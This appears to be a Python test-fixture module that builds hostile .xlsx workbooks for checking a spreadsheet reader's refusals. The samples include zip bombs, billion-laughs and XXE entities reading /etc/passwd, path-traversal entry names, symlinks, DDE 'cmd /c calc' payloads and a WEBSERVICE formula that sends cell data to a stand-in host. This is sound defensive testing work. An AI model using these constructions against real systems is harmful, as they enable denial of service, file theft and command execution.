"""Workbooks that somebody made to do harm: small files, written byte by byte, as no zip library would write them."""

from __future__ import annotations

import stat
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from functools import cache
from io import BytesIO
from pathlib import Path
from zipfile import ZipFile

import openpyxl

SHEET, BOOK = "xl/worksheets/sheet1.xml", "xl/workbook.xml"
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DIRECTORY = struct.Struct("<4s6H3I5H2I")


@dataclass
class Entry:
    """One part as it stands in the file; what it says of itself may be wrong."""

    name: str
    data: bytes  # as stored
    size: int
    crc: int
    method: int = 8
    flags: int = 0
    mode: int = 0
    stored_name: str = ""
    stored_at: int | None = None  # where its data are said to be; nothing is written then

    def packed(self, offset: int) -> bytes:
        name = (self.stored_name or self.name).encode()
        head = struct.pack("<4s5H3I2H", b"PK\3\4", 20, self.flags, self.method, 0, 33, self.crc, len(self.data),
                           self.size, len(name), 0)  # fmt: skip
        return b"" if self.stored_at is not None else head + name + self.data

    def listed(self, offset: int) -> bytes:
        name, at = self.name.encode(), offset if self.stored_at is None else self.stored_at
        return DIRECTORY.pack(b"PK\1\2", 20, 20, self.flags, self.method, 0, 33, self.crc, len(self.data), self.size,
                              len(name), 0, 0, 0, 0, self.mode << 16, at) + name  # fmt: skip


def entry(name: str, text: str | bytes, repeat: int = 1) -> Entry:
    """A part of a text, which stands in it many times."""
    data = text.encode() if isinstance(text, str) else text
    pack = zlib.compressobj(6, zlib.DEFLATED, -15)
    packed, crc = b"", 0
    for _ in range(repeat):
        packed, crc = packed + pack.compress(data), zlib.crc32(data, crc)
    return Entry(name, packed + pack.flush(), len(data) * repeat, crc)


def archive(entries: list[Entry]) -> bytes:
    body = b""
    listed = b""
    for one in entries:
        listed += one.listed(len(body))
        body += one.packed(len(body))
    count = len(entries)
    return body + listed + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, len(listed), len(body), 0)


@cache
def parts() -> dict[str, str]:
    """A small workbook as openpyxl writes it."""
    book = openpyxl.Workbook()
    assert book.active is not None
    for row in (["Sales", 1, 2, "=B1+C1"], ["Costs", 3, 4, "=SUM(B2:C2)"]):
        book.active.append(row)
    buffer = BytesIO()
    book.save(buffer)
    with ZipFile(buffer) as found:
        return {name: found.read(name).decode() for name in found.namelist()}


def book(**changes: Entry | str) -> list[Entry]:
    """The small workbook with other parts: its sheet, its book, or more by their names."""
    names = {"sheet": SHEET, "book": BOOK}
    texts = parts() | {names.get(name, name): text for name, text in changes.items() if isinstance(text, str)}
    made = {name: entry(name, text) for name, text in texts.items()}
    made |= {names.get(name, name): change for name, change in changes.items() if isinstance(change, Entry)}
    return list(made.values())


def sheet(cells: str = "", behind: str = "") -> str:
    """The sheet's XML with more rows, and with more behind them."""
    return parts()[SHEET].replace("</sheetData>", f"{cells}</sheetData>{behind}")


def formula(text: str, attributes: str = "") -> list[Entry]:
    return book(sheet=sheet(f'<row r="9"><c r="A9"><f{attributes}>{text}</f></c></row>'))


def relation(kind: str, target: str) -> str:
    """A part's relation to something outside the file."""
    one = f'<Relationship Id="rId1" Type="{TYPES}/{kind}" Target="{target}" TargetMode="External"/>'
    return f"<Relationships>{one}</Relationships>"


def overlapping() -> list[Entry]:
    """Two parts that share their data: the way to a small file of any size."""
    entries = book()
    first = next(one for one in entries if one.name == SHEET)
    at = sum(len(one.packed(0)) for one in entries[: entries.index(first)])
    return [*entries, replace(first, name="xl/worksheets/sheet2.xml", stored_at=at)]


def lying() -> Iterator[Entry]:
    """A sheet of 50 MB that says it has 1,000 bytes, with the checksum of those."""
    for one in book(sheet=entry(SHEET, b" " * 1_000_000, 50)):
        yield replace(one, size=1000, crc=zlib.crc32(b" " * 1000)) if one.name == SHEET else one


def laughs(part: str) -> str:
    """Entities that multiply: a billion times the first one's text."""
    rows = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY l0 "laugh">{rows}]>' + parts()[part].replace("</sheetData>", f"{CALL}</sheetData>")


def reading(place: str) -> str:
    """An entity that is the text of another file."""
    return f'<!DOCTYPE x [<!ENTITY l9 SYSTEM "{place}">]>' + sheet(CALL)


def one_cell(place: str, row: int) -> list[Entry]:
    return book(sheet=sheet(f'<row r="{row}"><c r="{place}"><v>1</v></c></row>'))


def changed(name: str, **what: object) -> list[Entry]:
    return [replace(one, **what) if one.name == name else one for one in book()]  # type: ignore[arg-type]


def bare(name: str, text: str = "<x/>") -> list[Entry]:
    return [entry("[Content_Types].xml", "<Types/>"), entry(name, text)]


def merge(cells: str) -> str:
    return f'<mergeCells><mergeCell ref="{cells}"/></mergeCells>'


def many(count: int, one: Entry) -> list[Entry]:
    return [replace(one, name=f"xl/p{number}.xml") for number in range(count)]


def defined(text: str) -> list[Entry]:
    names = f'<definedNames><definedName name="n">{text}</definedName></definedNames>'
    return book(book=parts()[BOOK].replace("<definedNames />", names))


OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
CELLS = b"<c><v>1</v></c>" * 4000
CALL = '<row r="9"><c r="A9" t="str"><v>&l9;</v></c></row>'
Made = Callable[[], "list[Entry] | bytes"]
REFUSED: dict[str, tuple[Made, str]] = {  # by every reader
    "a text": (lambda: b"name,amount\n", "not an .xlsx workbook"),
    "empty": (lambda: b"", "it is empty"),
    "an old or encrypted file": (lambda: OLE, "locked by a password, or an old .xls"),
    "half a file": (lambda: archive(book())[:3000], "cut off"),
    "something before it": (lambda: b"PK\3\4" + archive(book()), "before or behind"),
    "something behind it": (lambda: archive(book()) + b"x", "before or behind"),
    "no workbook": (lambda: bare("docProps/app.xml"), "not an .xlsx workbook;"),
    "a binary workbook": (lambda: bare("xl/workbook.bin"), "but a binary workbook"),
    "an OpenDocument file": (lambda: bare("content.xml"), "but an OpenDocument file"),
    "an encrypted part": (lambda: changed(SHEET, flags=1), "locked by a password"),
    "an unknown compression": (lambda: changed(SHEET, method=14), "zipped in a way"),
    "a wrong checksum": (lambda: changed(SHEET, crc=1), f"{SHEET} is damaged"),
    "broken XML": (lambda: book(sheet="<worksheet><sheetData>"), f"{SHEET} is damaged"),
    "no zip data": (lambda: changed(SHEET, data=b"\xff" * 50), f"{SHEET} is damaged"),
    "a sheet of 100 MB": (lambda: book(sheet=entry(SHEET, CELLS, 1_700)), "102 MB from .*, as a zip bomb does"),
    "60 parts of 9 MB": (lambda: book() + many(60, entry("", CELLS, 150)), "540 MB from .*, as a zip bomb does"),
    "12,000 parts": (lambda: book() + many(12_000, Entry("", b"", 0, 0, 0)), "12,009 parts, more than"),
    "parts that overlap": (overlapping, "overlaps with"),
    "a size that isn't so": (lambda: list(lying()), "more than the 1,000 bytes"),
    "entities that multiply": (lambda: book(sheet=laughs(SHEET)), "declares a document type"),
    "entities in the workbook": (lambda: book(book=laughs(BOOK)), "declares a document type"),
    "an entity of a file": (lambda: book(sheet=reading("file:///etc/passwd")), "declares a document type"),
    "entities in a drawing": (lambda: book(**{"xl/d.vml": laughs(BOOK)}), "declares a document type"),
    "another encoding": (lambda: book(sheet=entry(SHEET, parts()[SHEET].encode("utf-16"))), "not in UTF-8"),
    "a declared encoding": (lambda: book(sheet='<?xml version="1.0" encoding="cp037"?><x/>'), "not in UTF-8"),
    "a name that climbs": (lambda: book(**{"xl/../../../x.xml": "<x/>"}), "leads out of the file"),
    "a name from the root": (lambda: book(**{"/etc/x.xml": "<x/>"}), "leads out of the file"),
    "a name on a drive": (lambda: book(**{"C:/x.xml": "<x/>"}), "leads out of the file"),
    "a name with backslashes": (lambda: book(**{"xl\\..\\x.xml": "<x/>"}), "leads out of the file"),
    "a name that ends early": (lambda: book(**{"xl/a.xml\0.png": "<x/>"}), "leads out of the file"),
    "two names": (lambda: changed(SHEET, stored_name="xl/worksheets/sheetX.xml"), "another name where it is stored"),
    "a name twice": (lambda: [*book(), entry(SHEET, "<x/>")], "two parts named"),
    "a name in capitals": (lambda: [*book(), entry(SHEET.upper(), "<x/>")], "two parts named"),
    "a link to a file": (lambda: changed(SHEET, mode=stat.S_IFLNK | 0o777), "a link to another file"),
    "a device": (lambda: changed(SHEET, mode=stat.S_IFCHR), "is no file"),
    "a deep tree": (lambda: book(sheet="<a>" * 500_000), "more than 100 levels"),
    "a huge tag": (lambda: book(sheet=f'<a b="{"x" * 9_000_000}"/>'), "a tag of more than"),
    "a huge formula": (lambda: formula("1+" * 60_000 + "1"), "a formula of more than"),
    "a column beyond": (lambda: one_cell("XFE1", 1), "cells out to XFE"),
    "a row beyond": (lambda: one_cell("A1048577", 1048577), "cells out to [A-D]1048577"),
    "no place": (lambda: one_cell("AAAA1", 1), "'AAAA1', which no sheet has"),
}  # fmt: skip
LINK = "xl/externalLinks/externalLink1.xml"
LINKED = '<externalLink><externalBook xmlns:r="r" r:id="rId1"/></externalLink>'
NOT_COMPUTED: dict[str, tuple[Made, str]] = {  # by engines; whoever only reads does it
    "a far cell": (lambda: one_cell("XFD1048576", 1048576), "cells out to XFD1048576 on sheet 'Sheet'"),
    "a huge merge": (lambda: book(sheet=sheet(behind=merge("A1:ZZ100000"))), "over A1:ZZ100000"),
    "a huge array": (lambda: formula("B1", ' t="array" ref="A9:XFD99999"'), "array over A9:XFD99999"),
    "a huge range": (lambda: formula("SUM($A:$XFD)"), r"a formula over \$A:\$XFD"),
    "a linked workbook": (lambda: book(**{LINK: LINKED, "xl/externalLinks/_rels/externalLink1.xml.rels":
                          relation("externalLinkPath", "file:///tmp/rates.xlsx")}), "file:///tmp/rates.xlsx"),
    "a formula of another file": (lambda: formula("'/tmp/[rates.xlsx]Sheet1'!A1"), "rates.xlsx.*on sheet 'Sheet'"),
    "a formula by number": (lambda: formula("1+[2]Sheet1!$A$1"), r"\[2\]Sheet1"),
    "a formula by address": (lambda: formula("'file:///tmp/rates.ods'#$Sheet1.A1"), "rates.ods"),
    "a name of another file": (lambda: defined("[1]S!$A$1"), r"\[1\]S"),
    "a DDE link": (lambda: book(**{LINK: '<x><ddeLink ddeService="cmd" ddeTopic="/c calc"/></x>'}), "DDE: cmd /c calc"),
    "a DDE formula": (lambda: formula("cmd|'/c calc'!A0"), r"=cmd\|'/c calc'!A0"),
    "a web service": (lambda: formula('_xlfn.WEBSERVICE("http://x.test/?" &amp; A1)'), "WEBSERVICE"),
    "a picture from the web": (lambda: formula('_xlfn.IMAGE("http://x.test/a.png")'), "IMAGE"),
    "a connection": (lambda: book(**{"xl/connections.xml": '<connections><connection name="Prices"/></connections>'}),
                     "connection Prices"),
    "a linked picture": (lambda: book(**{"xl/drawings/_rels/d.xml.rels": relation("image", "http://x.test/a.png")}),
                         "http://x.test/a.png"),
    "an embedded object": (lambda: book(**{"xl/embeddings/oleObject1.bin": "x"}), "oleObject1.bin"),
    "a zip in the zip": (lambda: [*book(), entry("xl/embeddings/bomb.zip", archive(book()))], "bomb.zip"),
    "an ActiveX control": (lambda: book(**{"xl/activeX/activeX1.bin": "x"}), "activeX1.bin"),
}  # fmt: skip
FINE: dict[str, Made] = {
    "a small workbook": book,
    "whole columns": lambda: formula("SUM($A:$Z)+SUM(1:9)"),
    "a range of two calls": lambda: formula("SUM(INDEX($A:$A,1):INDEX($A:$A,2))"),
    "texts": lambda: formula('"[1]S!A1|WEBSERVICE(http://x.test)"&amp;"A:XFD"'),
    "a sheet named A|B": lambda: formula("'A|B'!A1"),
    "a table": lambda: formula("SUM(T[[#This Row],[a]:[b]])*T[x]"),
    "a hyperlink": lambda: book(**{"xl/worksheets/_rels/sheet1.xml.rels": relation("hyperlink", "http://x.test/")}),
    "a drawing as Excel writes it": lambda: book(**{"xl/drawings/vmlDrawing1.vml": "<xml><br></xml>"}),
    "a merge over a column": lambda: book(sheet=sheet(behind=merge("F1:F1048576"))),
    "a name of a whole sheet": lambda: defined("Sheet!$A$1:$XFD$1048576"),
    "formats everywhere": lambda: book(sheet=sheet(behind=(
        '<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" priority="1">'
        "<formula>A1&gt;1</formula></cfRule></conditionalFormatting>"))),
}  # fmt: skip


def write(path: Path, made: list[Entry] | bytes) -> Path:
    path.write_bytes(made if isinstance(made, bytes) else archive(made))
    return path
